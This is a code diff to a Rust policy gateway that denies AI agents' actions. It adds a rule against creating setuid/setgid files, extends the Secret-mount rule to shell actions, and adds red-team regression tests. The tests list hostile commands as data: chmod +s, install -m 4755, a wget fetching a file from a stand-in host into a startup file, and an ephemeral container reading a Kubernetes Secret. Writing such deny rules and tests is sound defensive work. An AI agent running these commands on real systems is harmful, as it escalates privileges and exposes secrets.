@@ -137,9 +137,15 @@ const RULES: &[(&str, Then, &str, &str)] = &[
         "agents may not read Kubernetes Secrets (a get, list, watch, update, patch or delete returns one)",
     ),
     (
+        "agent-no-set-id-files",
+        Then::Deny,
+        r#"identity.kind == "agent" && action.kind in ["exec", "shell"] && size(action.exec.set_id) > 0"#,
+        "agents may not make set-user-ID or set-group-ID files (chmod u+s, chmod 4755, install -m 4755): such a program runs with its owner's privileges whoever runs it",
+    ),
+    (
         "agent-no-secret-mounts",
         Then::Deny,
-        r#"identity.kind == "agent" && action.kind == "k8s" && size(action.k8s.secret_refs) > 0"#,
+        r#"identity.kind == "agent" && action.kind in ["k8s", "shell"] && size(action.k8s.secret_refs) > 0"#,
         "agents may not write objects that hand Secrets to pods (secret volumes, secretKeyRef, envFrom, projected tokens), nor bodies the gateway cannot read for them (send JSON): the pod would read what agents may not",
     ),
     (
@@ -608,6 +614,14 @@ mod tests {
         deny(Action::exec("h", "wget -O /home/u/.jq http://x.example/j"), "agent-no-startup-files");
         deny(Action::exec("h", "cp x /home/u/.config/lesskey"), "agent-no-startup-files");
         deny(Action::exec("h", "tee .lessfilter"), "agent-no-startup-files");
+        // Red-team Kubernetes round 102.
+        for c in ["chmod +s /tmp/x", "install -m 4755 /bin/true /tmp/x"] {
+            deny(Action::exec("h", c), "agent-no-set-id-files");
+        }
+        // An ephemeral container (a shell) that reads a Secret is denied as a pod would be.
+        let mut debug = Action::shell("k");
+        debug.k8s = K8s { verb: "patch".into(), resource: "pods".into(), subresource: "ephemeralcontainers".into(), secret_refs: vec!["s1".into()], ..K8s::default() };
+        deny(debug, "agent-no-secret-mounts");
         // Red-team SSH round 92: read by name wherever a link leads (`pdb` and `perl -d` read
         // them from the working directory too; rsync reads `~/.popt`).
         for c in ["touch /tmp/L/.pdbrc", "tee /tmp/L/.perldb", "cp /tmp/p /tmp/x/R/.popt"] {
